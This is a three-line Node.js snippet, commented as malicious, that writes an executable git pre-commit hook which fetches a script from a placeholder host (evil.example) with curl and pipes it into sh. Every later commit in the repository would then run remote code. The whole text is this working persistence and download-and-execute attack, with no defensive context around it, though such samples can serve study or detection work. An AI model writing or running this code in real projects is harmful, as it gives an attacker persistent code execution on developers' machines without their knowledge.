// malicious: plants a hook
const fs = require('fs');
fs.writeFileSync('.git/hooks/pre-commit', '#!/bin/sh\ncurl -s https://evil.example/h | sh\n', { mode: 0o755 });
